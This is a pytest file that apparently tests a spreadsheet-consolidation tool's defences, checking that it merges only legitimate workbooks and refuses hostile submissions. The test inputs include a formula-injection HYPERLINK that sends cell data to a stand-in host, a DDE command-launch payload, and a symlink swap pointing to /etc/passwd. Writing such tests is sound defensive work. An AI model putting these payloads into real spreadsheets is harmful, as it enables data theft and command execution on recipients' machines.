"""All attacks and three good workbooks in one inbox: the month is merged, and only the good ones are in it."""

from __future__ import annotations

import hashlib
import json
import os
import re
import stat
import sys
import zipfile
from pathlib import Path

import pytest
import xlsxwriter

import addin.consolidate as job
from addin import cli
from addin.inbox import Inbox, walk_inbox
from addin.inbox_names import shown
from tests.hostile import HEADER
from tests.hostile.everything import ALL

EVIL = '=HYPERLINK("http://192.0.2.1/?"&A1,"点我")'
GOOD = {
    "渔阳镇.xlsx": [("一项目", "甲公司", 100, 0, 50), (EVIL, "=cmd|' /C calc'!A0", 0.3, 0, 0)],
    "官庄镇.xlsx": [("二项目", "乙公司", 52000, 0, 50)],
    "白涧镇.xlsx": [("三项目", "丙公司", 0.1, 0, 50)],
}
LARGE = 64 << 20  # what is larger is sparse: its size and its time will do


def workbook(path: Path, rows: list[tuple[object, ...]]) -> None:
    with xlsxwriter.Workbook(str(path)) as book:
        sheet = book.add_worksheet("落地")
        sheet.write_string(0, 0, "招商引资落地项目清单（2023年2月）")
        for at, row in enumerate((HEADER, *rows), start=1):
            for column, cell in enumerate(row):
                write = sheet.write_string if isinstance(cell, str) else sheet.write_number
                write(at, column, cell)


def state(folder: Path) -> dict[Path, tuple[object, ...]]:
    """What stands in a folder and below, byte for byte; links are not followed."""
    found: dict[Path, tuple[object, ...]] = {}
    for path in folder.rglob("*"):
        status = path.lstat()
        regular = stat.S_ISREG(status.st_mode) and status.st_size <= LARGE
        content = hashlib.sha256(path.read_bytes()).digest() if regular else b""
        times = () if stat.S_ISDIR(status.st_mode) else (status.st_mtime_ns,)
        found[path] = (status.st_mode, status.st_size, *times, content)
    return found


SWAPS = {
    "gone-since.xlsx": lambda path: path.unlink(),
    "link-since.xlsx": lambda path: (path.unlink(), path.symlink_to("/etc/passwd")),
    "pipe-since.xlsx": lambda path: (path.unlink(), os.mkfifo(path)),
    "folder-since.xlsx": lambda path: (path.unlink(), path.mkdir()),
}


@pytest.mark.skipif(sys.platform != "linux", reason="links and pipes with the names of workbooks")
def test_only_the_good_ones_are_merged(tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture):
    inbox, here, out = tmp_path / "收件", tmp_path / "这里", tmp_path / "结果"
    for folder in (inbox, here, out):
        folder.mkdir()
    for name, rows in GOOD.items():
        workbook(inbox / name, rows)
    for name in SWAPS:
        workbook(inbox / name, GOOD["官庄镇.xlsx"])
    for _, attack in ALL:
        attack.put(inbox)
    before: dict[Path, tuple[object, ...]] = {}

    def walk_and_swap(folder: Path) -> Inbox:
        walked = walk_inbox(folder)
        for name, swap in SWAPS.items():
            swap(folder / name)
        before.update(state(tmp_path))
        return walked

    monkeypatch.setattr(job, "walk_inbox", walk_and_swap)
    monkeypatch.chdir(here)
    command = ["consolidate", str(inbox), "--programme", "jizhou", "--period", "2023-02"]
    status = cli.main([*command, "--out", str(out / "汇总.xlsx"), "--json", str(out / "o.json")])
    said = "".join(capsys.readouterr())

    assert status == 1, said[-3000:]
    assert "Traceback" not in said and not re.search("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]", said)
    told = json.loads((out / "o.json").read_text(encoding="utf-8"))
    assert told["totals"]["landed"]["total_investment"] == "52100.4"
    files = {each["file"]: each for each in told["submissions"]}
    assert {name: each["unit"] for name, each in files.items() if each["outcome"] == "merged"} == {
        "渔阳镇.xlsx": "渔阳镇", "官庄镇.xlsx": "官庄镇", "白涧镇.xlsx": "白涧镇"
    }  # fmt: skip
    check_verdicts(told, files)
    after = state(tmp_path)
    changed = {path for path in {*before, *after} if before.get(path) != after.get(path)}
    assert {path.name for path in changed if path.parent == out} >= {"汇总.xlsx", "o.json", "工作簿.xlsx"}
    assert [path for path in changed if path.parent != out and path != out] == []
    check_summary(out / "汇总.xlsx")


def check_verdicts(told: dict, files: dict[str, dict]) -> None:
    """Every attack is named, and refused for its own reason or because nobody knows whose it is."""
    codes: dict[str, set[str]] = {}
    for each in told["findings"]:
        codes.setdefault(each["file"] or "", set()).add(each["code"])
    wrong = []
    for _, attack in ALL:
        name, code = shown(attack.name), attack.inbox or attack.code
        if code == "-" or attack.meanwhile:
            continue
        verdict = files.get(name, {"outcome": "not named", "reason": ""})
        outcome = "skipped" if attack.inbox else "refused"
        if verdict["outcome"] != outcome or not any(each.startswith(code or "ZS-7") for each in codes.get(name, ())):
            wrong.append((name, verdict["outcome"], verdict["reason"], codes.get(name)))
    assert wrong == []
    reasons = {name: files[name]["reason"] for name in SWAPS}
    assert "不在" in reasons["gone-since.xlsx"] and "链接" in reasons["link-since.xlsx"]
    assert "管道" in reasons["pipe-since.xlsx"] and "文件夹" in reasons["folder-since.xlsx"]


def check_summary(path: Path) -> None:
    """What was sent as text is text: no formula and no link of the summary comes from a file."""
    with zipfile.ZipFile(path) as archive:
        parts = {
            name: archive.read(name).decode("utf-8") for name in archive.namelist() if name.endswith((".xml", ".rels"))
        }
    formulas = [text for xml in parts.values() for text in re.findall(r"<(?:f|definedName|formula\d?)[ >][^<]*", xml)]
    assert formulas and not [text for text in formulas if "192.0.2" in text or "cmd|" in text]
    assert not [name for name, xml in parts.items() if name.endswith(".rels") and "192.0.2" in xml]
    assert any("HYPERLINK(&quot;http" in xml or 'HYPERLINK("http' in xml for xml in parts.values()), (
        "it is there as text"
    )
